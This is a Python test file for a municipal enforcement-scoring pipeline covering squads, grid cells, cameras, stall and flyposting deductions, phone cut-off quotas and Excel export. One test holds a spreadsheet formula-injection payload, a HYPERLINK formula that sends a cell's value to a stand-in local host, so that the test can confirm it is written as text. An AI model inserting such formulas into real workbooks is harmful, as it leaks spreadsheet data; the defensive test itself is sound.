"""Assessment scores from the example sheet for a case set built here, against values worked out by hand."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
import yaml

from detect.config_io import ConfigError
from pipelines.analytics.config import AnalyticsConfig
from pipelines.analytics.periods import PeriodError, parse_period
from pipelines.analytics.places import load_places
from pipelines.analytics.quota import CutoffFile
from pipelines.analytics.scoring import score_store, score_tables
from pipelines.analytics.sheet import EXAMPLE_SHEET, load_sheet
from pipelines.cases.store import CaseStore
from tests.analytics_helpers import G1, G2, G3, G4, N, TZ, CaseMaker, local, november, write_grid, write_named_cameras

NOV = parse_period("2026-11")


@pytest.fixture
def city(tmp_path):
    """November's cases (see `november` for the worked example) in a real store, the grid and the cut-off list."""
    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    cutoffs = november(CaseMaker(store), tmp_path)
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
    yield store, places, CutoffFile(cutoffs, TZ)
    store.close()


def _deductions(unit) -> dict[str, float]:
    return {i.id: i.deduction for s in unit.sections for i in s.items if i.deduction}


def test_scores_by_squad_equal_the_hand_worked_values(city):
    store, places, cutoffs = city
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, cutoffs)
    assert [u.unit for u in table.units] == ["一中队", "二中队"] and table.points == 60
    one, two = table.unit("一中队"), table.unit("二中队")
    # 一中队 (G1, G2): market -5, two single stalls -2, three shops -3 | three flyposting spots -3 |
    # quota 10, cut off N0-N3 + N9 = 5, five short -5.  60 - 10 - 3 - 5 = 42
    assert _deductions(one) == {"road_market": 5, "unlicensed_stall": 2, "shop_beyond_door": 3, "flyposting": 3,
                                "numbers_cut_off": 5}
    assert one.score == 42
    market = one.item("road_market")
    assert market.count == 1 and market.groups[0]["stalls"] == 12 and market.groups[0]["band"] == "10–20"
    # the workbook's groups sheet names the market's place as staff know it; it read the key, grid:330106001001
    assert market.groups[0]["place"] == f"grid:{G1}" and market.groups[0]["place_name"] == f"网格 文三路东 ({G1})"
    groups = next(t for t in score_tables(table) if t.key == "groups")
    assert [row[2] for row in groups.rows if row[1] == market.name] == [f"网格 文三路东 ({G1}) 2026-11-05 09:00 · 12 摊 stalls · 10–20"]
    assert len(market.cases) == 3 and len(one.item("unlicensed_stall").cases) == 1
    assert one.item("shop_beyond_door").count == 3 and len(one.item("shop_beyond_door").cases) == 4
    assert sorted(g["number"] for g in one.item("numbers_cut_off").groups) == [N[0], N[1], N[2], N[3], N[9]]
    # 二中队 (G3, G4): 25 single stalls -25 | one flyposting spot -1 | quota: N5, N6 = 2, eight short -8.  60 - 34 = 26
    assert _deductions(two) == {"unlicensed_stall": 25, "flyposting": 1, "numbers_cut_off": 8}
    assert two.score == 26
    assert table.cases_counted == 3 + 1 + 4 + 25 + 4  # the candidate, the rejected and the October cases do not count


def test_scores_by_grid_and_street(city):
    store, places, cutoffs = city
    by_grid = score_store(store.engine, places, load_sheet(), "grid", NOV, TZ, cutoffs)
    assert {u.unit: u.score for u in by_grid.units} == {G1: 60 - 10 - 2, G2: 60 - 1, G3: 60 - 15 - 1, G4: 60 - 10}
    quota = by_grid.unit(G1).item("numbers_cut_off")
    assert quota.deduction == 0 and quota.note.startswith("不适用 n/a")  # the quota is a squad's
    by_street = score_store(store.engine, places, load_sheet(), "street", NOV, TZ, cutoffs)
    assert {u.unit: u.score for u in by_street.units} == {"文新街道": 48, "蒋村街道": 60 - 25 - 2}


def test_units_come_in_the_grid_files_order(tmp_path):
    """Squads came sorted by code point: 一中队, 三中队, 二中队. They come as the city's grid file lists them, units only
    cases name after them, the cases without a place last."""
    cells = [("330106001001", "甲", "文新街道", "一中队"), ("330106001002", "乙", "蒋村街道", "二中队"),
             ("330106002001", "丙", "蒋村街道", "三中队"), ("330106002002", "丁", "文新街道", "一中队")]
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson", cells)))
    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    CaseMaker(store).add("street_stall", None, local(3))  # no cell: the (未标注 none) unit
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ)
    store.close()
    assert [u.unit for u in table.units] == ["一中队", "二中队", "三中队", "(未标注 none)"]
    assert places.known_units("street") == ["文新街道", "蒋村街道"]


def test_scores_by_camera_name_each_camera_as_its_scene_does(tmp_path):
    """`score --by camera` listed camera ids (cam-01), which a district head does not know. Each camera reads as its
    scene names it, the id after, in the sheets (the JSON keeps the id as `unit`, the name as `label`); one its scene
    names nothing for, or no longer listed, by its id."""
    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    make = CaseMaker(store)
    for camera_id, zone_id in (("cam-01", "curb"), ("cam-02", "kerb"), ("cam-09", "walk")):
        make.add("illegal_parking", G1, local(3, 9), camera=camera_id, zone=zone_id)
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")), cameras_file=write_named_cameras(tmp_path))
    table = score_store(store.engine, places, load_sheet(), "camera", NOV, TZ)
    store.close()
    assert [(u.unit, u.label) for u in table.units] == [("cam-01", "文三路北门 (cam-01)"), ("cam-02", "cam-02"), ("cam-09", "cam-09")]
    sheets = {t.key: t for t in score_tables(table)}
    assert [row[0] for row in sheets["scores"].rows] == ["文三路北门 (cam-01)", "cam-02", "cam-09"]
    assert {row[0] for row in sheets["deductions"].rows} == {"文三路北门 (cam-01)", "cam-02", "cam-09"}
    assert table.to_json()["units"][0] | {"sections": None} == {"unit": "cam-01", "label": "文三路北门 (cam-01)", "score": 60.0,
                                                                "points": 60.0, "sections": None}


def test_candidates_count_when_the_sheet_says_so(city, tmp_path):
    store, places, cutoffs = city
    sheet = yaml.safe_load(EXAMPLE_SHEET.read_text(encoding="utf-8"))
    sheet["include_candidates"] = True
    path = tmp_path / "sheet.yaml"
    path.write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    by_grid = score_store(store.engine, places, load_sheet(path), "grid", NOV, TZ, cutoffs)
    assert by_grid.unit(G2).score == 60 - 1 - 1  # the candidate stall now counts; the rejected case still does not


def test_quota_without_a_status_source_is_not_scored(city):
    store, places, _ = city
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, None)
    quota = table.unit("一中队").item("numbers_cut_off")
    assert quota.deduction == 0 and "no number status source" in quota.note
    week = score_store(store.engine, places, load_sheet(), "squad", parse_period("2026-W45"), TZ, None)
    assert "quota is monthly" in week.unit("一中队").item("numbers_cut_off").note


def _sheet(tmp_path: Path, items: list[dict], points: float = 30, **top) -> Path:
    path = tmp_path / "bands.yaml"
    path.write_text(yaml.safe_dump({"name": "测试", **top, "sections": [{"id": "s", "name": "流动摊贩", "points": points,
                                                                          "items": items}]}, allow_unicode=True), encoding="utf-8")
    return path


MARKET = {"id": "market", "name": "马路市场", "types": ["street_stall"], "per": "group",
          "bands": [{"min": 10, "max": 20, "deduct": 5}, {"min": 21, "deduct": 10}], "replaces": ["stall"]}
STALL = {"id": "stall", "name": "摊点", "types": ["street_stall"], "per": "stall", "deduct": 1}


def test_bands_edges_time_windows_places_and_caps(tmp_path):
    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    make = CaseMaker(store)
    make.add("street_stall", G1, local(2, 8), stalls=20)  # exactly 20: the 10-20 band
    make.add("street_stall", G2, local(2, 8), stalls=11)
    make.add("street_stall", G2, local(2, 20), stalls=10)  # 21 in G2 that day: more than 20
    make.add("street_stall", G3, local(2, 8), stalls=9)  # 9: below every band, nine single stalls
    for day in range(1, 31):
        make.add("street_stall", G4, local(day, 8), stalls=2)  # 60 single stalls over the month: capped at 30
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
    table = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [MARKET, STALL])), "grid", NOV, TZ)
    assert {u.unit: _deductions(u) for u in table.units} == {
        G1: {"market": 5}, G2: {"market": 10}, G3: {"stall": 9}, G4: {"stall": 60}}
    assert table.unit(G4).score == 0 and table.unit(G4).sections[0].deduction == 30  # the section's points cap it
    # A 2-hour window instead of the day: G2's cases 12 hours apart are two groups of 11 and 10 (both in 10-20).
    windowed = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [MARKET, STALL], grouping={"time": "2h"})), "grid", NOV, TZ)
    assert _deductions(windowed.unit(G2)) == {"market": 10} and windowed.unit(G2).item("market").count == 2
    # An item cap below the section's points.
    capped = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [MARKET, {**STALL, "cap": 12}])), "grid", NOV, TZ)
    assert capped.unit(G4).score == 30 - 12
    store.close()


@pytest.mark.parametrize("change, field, reason", [
    (lambda s: s["sections"][0]["items"][1].update(types=["ufo_landing"]), "sections.0.items.1.types.0", "unknown violation type 'ufo_landing'"),
    (lambda s: s["sections"][1].update(points=-5), "sections.1.points", "greater than or equal to 0"),
    (lambda s: s["sections"][0]["items"][0].update(cap=-1), "sections.0.items.0.cap", "greater than or equal to 0"),
    (lambda s: s["sections"][0]["items"][0].update(deduct="1分"), "sections.0.items.0.deduct",
     "Input should be a valid number, unable to parse string as a number (got '1分')"),
    (lambda s: s["sections"][0]["items"][3]["bands"].append({"min": 15, "max": 25, "deduct": 7}),
     "sections.0.items.3.bands", "bands 0 (10–20) and 2 (15–25) overlap"),
    (lambda s: s["sections"][0]["items"][3]["bands"].__setitem__(1, {"min": 20, "deduct": 10}),
     "sections.0.items.3.bands", "overlap"),
    (lambda s: s["grouping"].update(time="next tuesday"), "grouping.time", "cannot read 'next tuesday' as a time"),
    (lambda s: s["sections"][0]["items"][0].update(replaces=["nope"]), "sections.0.items.0.replaces.0", "no item 'nope'"),
    (lambda s: s["sections"][0]["items"][1].update(replaces=["road_market"]), "replaces", "in a circle"),
    (lambda s: s["sections"][0]["items"][3].pop("bands"), "sections.0.items.3", "per: group needs `bands`"),
    (lambda s: s["sections"][2]["items"][0].pop("monthly_quota"), "sections.2.items.0", "per: quota needs `monthly_quota`"),
])
def test_bad_sheets_name_file_field_and_reason(tmp_path, change, field, reason):
    sheet = yaml.safe_load(EXAMPLE_SHEET.read_text(encoding="utf-8"))
    change(sheet)
    path = tmp_path / "bad-sheet.yaml"
    path.write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        load_sheet(path)
    message = str(err.value)
    assert message.startswith(f"{path}: ") and field in message and reason in message, message


@pytest.mark.parametrize("text", ["2026-13", "2026-02-30", "Nov 2026", "2026-W54", "26-11", "", "0001", "9999-12-31", "9999-W52"])
def test_bad_periods_are_refused_with_the_accepted_forms(text):
    with pytest.raises(PeriodError, match="period"):
        parse_period(text)


def test_periods_are_local_days():
    start, end = parse_period("2026-11").bounds(TZ)
    assert (start.isoformat(), end.isoformat()) == ("2026-10-31T16:00:00+00:00", "2026-11-30T16:00:00+00:00")
    assert [parse_period(p).label for p in ("2026-11-03", "2026-w45", "2026-q4", "2026")] == ["2026-11-03", "2026-W45", "2026-Q4", "2026"]
    assert parse_period("2026-01").previous().label == "2025-12" and parse_period("2026-W01").previous().label == "2025-W52"


def test_bad_cutoff_file_names_the_line(tmp_path):
    path = tmp_path / "cutoffs.csv"
    path.write_text("number,cut_off_at\n13800138000,2026-11-01\nhello,2026-11-02\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"cutoffs.csv 第 3 行「号码」：'hello' 不是一个电话号码 — "
                                          r".*cutoffs.csv: row 3: number: 'hello' is not one phone number"):
        CutoffFile(path, TZ)
    path.write_text("number,cut_off_at\n13800138000,soon\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"第 2 行「停机时间」：'soon' 不是日期时间（可写 .*） — .*row 2: cut_off_at: 'soon'"):
        CutoffFile(path, TZ)
    path.write_text("number,cut_off_at,note\n13800138000,2026-11-01,已停机\n", encoding="gbk")  # Excel's plain "CSV" in China: read
    assert list(CutoffFile(path, TZ).cut_off(["13800138000"], *parse_period("2026-11").bounds(TZ))) == ["13800138000"]
    path.write_bytes("number,cut_off_at\n".encode("utf-16"))  # neither UTF-8, GBK nor Windows-1252: refused, Chinese first
    with pytest.raises(ConfigError, match=r"cutoffs.csv：不是 UTF-8、GB18030 \(GBK\)、Windows-1252 编码.* — .*cutoffs.csv: not UTF-8, GB18030 \(GBK\), Windows-1252 text"):
        CutoffFile(path, TZ)


def test_a_repeated_header_row_in_the_cutoff_file_is_skipped_with_a_warning_the_scores_carry(city, tmp_path):
    """The registers warn of a row that repeats the header (two sheets pasted one under the other); the cut-off file
    skipped it without a word. It is a warning of the file, which the scores carry; the rows below it still count."""
    store, places, november_cutoffs = city
    assert november_cutoffs.warnings == []
    path = tmp_path / "pasted.csv"
    path.write_text("number,cut_off_at\n13800138000,2026-11-10\nnumber,cut_off_at\n13800138001,2026-11-11\n", encoding="utf-8")
    cutoffs = CutoffFile(path, TZ)
    said = f"{path} 第 3 行与表头相同，已跳过 — {path}: row 3 repeats the header, skipped"
    assert cutoffs.warnings == [said]
    assert sorted(cutoffs.cut_off([N[0], N[1]], *NOV.bounds(TZ))) == [N[0], N[1]]
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, cutoffs)
    assert table.warnings == [said] and table.to_json()["warnings"] == [said]


def test_the_scores_workbook_lists_the_cutoff_files_warnings(city, tmp_path):
    """Staff read the workbook, not the JSON: the cut-off file's warnings were in the JSON alone. Its 说明 About
    sheet has a 提醒 row for each (none when there is nothing to check)."""
    from openpyxl import load_workbook

    from pipelines.analytics.scoring import score_tables
    from pipelines.analytics.tables import write_xlsx

    store, places, november_cutoffs = city
    path = tmp_path / "pasted.csv"
    path.write_text("number,cut_off_at\n13800138000,2026-11-10\n号码,停机时间\n13800138001,2026-11-11\n", encoding="utf-8")
    said = f"{path} 第 3 行与表头相同，已跳过 — {path}: row 3 repeats the header, skipped"
    for cutoffs, warned in ((november_cutoffs, []), (CutoffFile(path, TZ), [said])):
        table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, cutoffs)
        about = load_workbook(write_xlsx(tmp_path / "scores.xlsx", score_tables(table)))["说明 About"]
        assert [value for field, value in about.iter_rows(values_only=True) if field == "提醒 warning"] == warned


def test_the_scores_workbook_says_when_it_was_made_on_the_citys_clock(city, tmp_path):
    """The 说明 About sheet said when the scores were made in UTC ('generated (UTC)' 2026-12-01T16:05:00+00:00), where
    the reports say it on the city's clock: it says it in the analytics time zone, naming it; the JSON keeps UTC."""
    from openpyxl import load_workbook

    from pipelines.analytics.scoring import score_tables
    from pipelines.analytics.tables import write_xlsx

    store, places, cutoffs = city
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, cutoffs)
    about = dict(load_workbook(write_xlsx(tmp_path / "scores.xlsx", score_tables(table)))["说明 About"].iter_rows(values_only=True))
    made = datetime.fromisoformat(table.generated_at)
    assert made.utcoffset().total_seconds() == 0 and table.to_json()["generated_at"] == table.generated_at
    assert about["生成时间 generated (Asia/Shanghai)"] == made.astimezone(TZ).strftime("%Y-%m-%d %H:%M:%S"), about


def test_a_camera_case_keeps_the_largest_stall_count_it_reported(tmp_path, monkeypatch, bus_event):
    """A market that grows after opening: the `updated` events' counts reach the case (the sheet counts the peak)."""
    from dataclasses import replace
    from datetime import timedelta

    from detect.events import EventKind
    from detect.evidence.builder import BundleContext, EvidenceBuilder
    from detect.evidence.config import EvidenceConfig
    from pipelines.cases.intake import Intake
    from pipelines.evidence_store import LocalEvidenceStore
    from tests.api_helpers import KEY, MODEL

    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    intake = Intake(store, LocalEvidenceStore(tmp_path / "evidence"), EvidenceBuilder(EvidenceConfig(), KEY.encode(), MODEL),
                    tmp_path / "spool")
    event, _ = bus_event
    opened = replace(event, violation_id="cam-01:z:street_stall:g1", violation_type="street_stall", object_count=4)
    case = intake.record_event(opened, BundleContext(source_kind="camera", source_id="cam-01", grid_cell=G1))
    for count, minutes in ((12, 5), (9, 10)):
        later = opened.at + timedelta(minutes=minutes)
        intake.record_event(replace(opened, kind=EventKind.UPDATED, object_count=count, at=later, frame=replace(opened.frame, ts=later)),
                            BundleContext(source_kind="camera", source_id="cam-01", grid_cell=G1))
    assert store.get(case.id).details["object_count"] == 12
    store.close()


def test_cutoff_file_as_excel_saves_it(tmp_path):
    """The liaison's list as Excel leaves it: empty rows once used (`,,`) no longer refuse the whole file, and
    the .xlsx itself (Chinese headers, a number cell, a date cell) is read instead of being called 'not UTF-8'."""
    from openpyxl import Workbook

    path = tmp_path / "cutoffs.csv"
    path.write_text("number,cut_off_at,note\n13800138000,2026-11-01 10:00,\n,,\n,,\n", encoding="utf-8-sig")
    nov = [datetime(2026, 11, 1, tzinfo=TZ), datetime(2026, 12, 1, tzinfo=TZ)]
    assert CutoffFile(path, TZ).cut_off(["13800138000"], *nov) == {"13800138000": datetime(2026, 11, 1, 10, tzinfo=TZ)}
    book = Workbook()
    book.active.append(["号码", "停机时间", "备注"])
    book.active.append([13800138001, datetime(2026, 11, 30, 23, 59), "电信停机"])
    book.active.append([None, None, None])
    book.active.append(["0571-8765 4321", "2026-12-01", None])
    book.save(tmp_path / "cutoffs.xlsx")
    assert CutoffFile(tmp_path / "cutoffs.xlsx", TZ).cut_off(["13800138001", "057187654321"], *nov) == {
        "13800138001": datetime(2026, 11, 30, 23, 59, tzinfo=TZ)}


def test_cutoff_file_saved_again_by_excel_on_a_chinese_pc(tmp_path):
    """Excel/WPS save a CSV they opened with dates as shown on a Chinese-locale PC, `2026/11/3 10:20`; the list
    was refused at its first line ('is not a date/time')."""
    path = tmp_path / "cutoffs.csv"
    path.write_text("number,cut_off_at\n13800138000,2026/11/3 10:20\n13800138001,2026/11/30\n", encoding="utf-8-sig")
    nov = [datetime(2026, 11, 1, tzinfo=TZ), datetime(2026, 12, 1, tzinfo=TZ)]
    assert CutoffFile(path, TZ).cut_off(["13800138000", "13800138001"], *nov) == {
        "13800138000": datetime(2026, 11, 3, 10, 20, tzinfo=TZ), "13800138001": datetime(2026, 11, 30, tzinfo=TZ)}
    path.write_text("number,cut_off_at\n13800138000,2026/13/3\n", encoding="utf-8-sig")
    with pytest.raises(ConfigError, match=r"row 2: cut_off_at: '2026/13/3' is not a date/time"):
        CutoffFile(path, TZ)


@pytest.mark.slow  # 9 s: a year of cases into a workbook
def test_a_year_of_cases_behind_one_deduction_fits_excel_cells(tmp_path):
    """A year's 1,400 flyposting spots in one cell: their case ids in one Deductions cell came to ~35,000
    characters, past the 32,767 an Excel cell holds, and openpyxl cut the text there without a word (the last
    ~100 ids lost, one cut in half). They go on on rows of their own (same unit and item, no numbers, 续)."""
    from openpyxl import load_workbook

    from pipelines.analytics.scoring import score_tables
    from pipelines.analytics.tables import write_xlsx

    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    make = CaseMaker(store)
    ids = {make.add("flyposting", G1, local(1 + i % 28, 8 + i % 12, i % 60, month=1 + i % 12)) for i in range(1400)}
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
    table = score_store(store.engine, places, load_sheet(), "grid", parse_period("2026"), TZ)
    store.close()
    assert table.unit(G1).item("flyposting").count == 1400
    book = load_workbook(write_xlsx(tmp_path / "scores.xlsx", score_tables(table)))
    rows = [r for r in book["扣分明细 Deductions"].iter_rows(values_only=True) if r[0] == G1 and r[2].startswith("牛皮癣")]
    assert len(rows) == 2 and rows[0][3:5] == (1400, -1400) and rows[1][3:5] == (None, None) and rows[1][6] == "续 continued"
    listed = [case_id for r in rows for case_id in r[5].split(", ")]
    assert len(listed) == 1400 and set(listed) == ids


def test_an_item_named_like_a_formula_heads_its_column_as_text(tmp_path):
    """Item names head the Scores sheet's columns; the header row was written without the guard the cells get, so an
    item named `=HYPERLINK(…)` (a sheet from elsewhere) became a formula that runs in whoever opens the workbook."""
    from openpyxl import load_workbook

    from pipelines.analytics.scoring import score_tables
    from pipelines.analytics.tables import write_xlsx

    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    CaseMaker(store).add("street_stall", G1, local(2, 8))
    name = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"摊点")'
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
    table = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [{**STALL, "name": name}])), "grid", NOV, TZ)
    store.close()
    header = load_workbook(write_xlsx(tmp_path / "scores.xlsx", score_tables(table)))["得分 Scores"][1]
    assert [(c.value, c.data_type) for c in header][-1] == (name, "s")


def test_text_longer_than_an_excel_cell_is_cut_visibly_and_logged(tmp_path, caplog):
    """openpyxl cut any cell past 32,767 characters without a word (a description pasted from a complaint, a
    register's note), in every workbook but the score case lists: the cut cell ends saying so and a warning names
    the sheet, row and column; the CSV keeps the whole text."""
    from openpyxl import load_workbook

    from pipelines.analytics.tables import Table, csv_text, write_xlsx
    from pipelines.tables import CUT_MARK, EXCEL_CELL_CHARS

    note = "占道经营投诉：" + "文三路口早市摊点占用人行道。" * 3000  # 42,007 characters
    table = Table("cases", "案件 Cases", ["编号 id", "描述 description"], [["c-1", "短"], ["c-2", note]])
    with caplog.at_level("WARNING", logger="pipelines.tables"):
        book = load_workbook(write_xlsx(tmp_path / "cases.xlsx", [table]))
    cell = book["案件 Cases"]["B3"].value
    assert len(cell) == EXCEL_CELL_CHARS and cell.endswith(CUT_MARK) and note.startswith(cell[:-len(CUT_MARK)])
    assert book["案件 Cases"]["B2"].value == "短"
    assert [r.getMessage() for r in caplog.records] == [
        f"案件 Cases: row 3, column B: text longer than the 32767 characters an Excel cell holds, cut and marked {CUT_MARK!r}"]
    assert note in csv_text(table)


def test_a_control_character_in_a_cell_does_not_stop_the_workbook(tmp_path):
    """A BEL or ESC in a description (OCR'd text, a note pasted from another system) made openpyxl raise
    IllegalCharacterError and the whole Excel export failed; such characters are left out, tabs and line breaks kept."""
    from openpyxl import load_workbook

    from pipelines.analytics.tables import Table, write_xlsx

    table = Table("cases", "案件 Cases", ["编号 id", "描述 description"], [["c-1", "开锁\x07 138\x1b0013\t8000\n文三路"]])
    book = load_workbook(write_xlsx(tmp_path / "cases.xlsx", [table]))
    assert book["案件 Cases"]["B2"].value == "开锁 1380013\t8000\n文三路"


def test_a_number_not_cut_off_yet_is_listed_and_counts_for_nothing(tmp_path):
    """The liaison writes a number down when asking the operator to cut it, the time when it is done: a row with an
    empty cut_off_at refused the whole list ('' is not a date/time), so no quota was scored for anyone."""
    path = tmp_path / "cutoffs.csv"
    path.write_text("number,cut_off_at,note\n13800138000,2026-11-03 10:20,电信停机\n13800138001,,已报送 待停机\n"
                    "0571-8765 4321, ,\n", encoding="utf-8-sig")
    nov = [datetime(2026, 11, 1, tzinfo=TZ), datetime(2026, 12, 1, tzinfo=TZ)]
    assert CutoffFile(path, TZ).cut_off(["13800138000", "13800138001", "0571-87654321"], *nov) == {
        "13800138000": datetime(2026, 11, 3, 10, 20, tzinfo=TZ)}
    path.write_text("number,cut_off_at\n13800138000,\nhello,\n", encoding="utf-8")  # the number is still checked
    with pytest.raises(ConfigError, match=r"cutoffs.csv: row 3: number: 'hello' is not one phone number"):
        CutoffFile(path, TZ)


def test_shops_seen_by_a_camera_without_zones_are_not_one_shop(tmp_path):
    """A camera whose scene has no zones files its cases under the whole-image zone `image`; `shop_of` took it for a
    frontage, so every shop that camera saw beyond its door on a day was one shop and one point (place_of already
    skipped it). Without a shop named or a frontage zone, each case is a shop of its own."""
    from detect.candidates import WHOLE_IMAGE

    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    make = CaseMaker(store)
    for hour in (9, 11, 15):
        make.add("shopfront_spillover", G1, local(5, hour), camera="cam-09", zone=WHOLE_IMAGE)
    make.add("shopfront_spillover", G1, local(5, 9), camera="cam-01", zone="frontage-a")  # a frontage zone is one shop
    make.add("shopfront_spillover", G1, local(5, 16), camera="cam-01", zone="frontage-a")
    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
    shops = {**STALL, "id": "shop", "name": "越门经营", "types": ["shopfront_spillover"], "per": "shop"}
    table = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [shops])), "grid", NOV, TZ)
    store.close()
    assert table.unit(G1).item("shop").count == 3 + 1


def test_a_number_excel_mangled_in_the_cutoff_list_says_how(tmp_path):
    """A CSV saved from Excel with the number column too narrow holds `5.71877E+10`, its digits lost; the cut-off list
    said only 'is not one phone number' where the call-out import says how to avoid it. A landline whose leading 0
    Excel dropped (`57187654321`) needs no hint: it is read as 0571-87654321."""
    path = tmp_path / "cutoffs.csv"
    path.write_text("number,cut_off_at\n57187654321,2026-11-12\n5.71877E+10,2026-11-12\n", encoding="utf-8-sig")
    with pytest.raises(ConfigError) as refused:
        CutoffFile(path, TZ)
    assert str(refused.value) == (f"{path} 第 3 行「号码」：'5.71877E+10' 不是一个电话号码（Excel 把长数字显示成了科学计数法并这样保存，"
                                  f"位数已丢失：保存前把该列设为文本） — {path}: row 3: number: '5.71877E+10' is not one phone "
                                  "number (Excel showed the number as a power of ten and saved it so, digits lost: format the "
                                  "column as text before saving)")
    path.write_text("number,cut_off_at\n57187654321,2026-11-12\n", encoding="utf-8-sig")
    assert set(CutoffFile(path, TZ).times) == {"0571-87654321"}


def test_cases_without_a_squad_are_charged_no_quota(city):
    """A photo without a place (a WeChat photo, no GPS) is scored under (未标注 none); that row is no squad and has no
    target, but it was charged the whole monthly quota (10 numbers short, -10) beside the real squads."""
    store, places, cutoffs = city
    make = CaseMaker(store)
    make.n = 100  # after november's cases (their violation ids are t:1 …)
    make.add("exposed_garbage", None, local(12))
    table = score_store(store.engine, places, load_sheet(), "squad", NOV, TZ, cutoffs)
    unplaced = table.unit("(未标注 none)")
    assert unplaced.item("numbers_cut_off").unscored == "不适用 n/a" and unplaced.score == 60
    assert table.unit("一中队").score == 42  # the squads' quotas as before


def test_a_capped_sections_deductions_add_up_to_the_score(city, tmp_path):
    """二中队's 25 single stalls deduct 25 from a 20-point section, which deducts 20: the workbook's deductions listed
    -25 alone, so they added up to a score of -5 where it said 0. A row gives back what the cap kept."""
    from pipelines.analytics.scoring import CAPPED, score_tables

    store, places, cutoffs = city
    table = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [STALL], points=20)), "squad", NOV, TZ, cutoffs)
    assert table.unit("二中队").score == 0
    deductions = next(t for t in score_tables(table) if t.key == "deductions")
    rows = [r for r in deductions.rows if r[0] == "二中队"]
    assert [r[2] for r in rows] == ["摊点", CAPPED] and sum(r[4] for r in rows) == -20 == table.unit("二中队").score - 20
    assert "超过满分 20" in rows[1][6]
    one = [r for r in deductions.rows if r[0] == "一中队"]
    assert [r[2] for r in one] == ["摊点"]  # 14 stalls of 20 points: no cap, no row
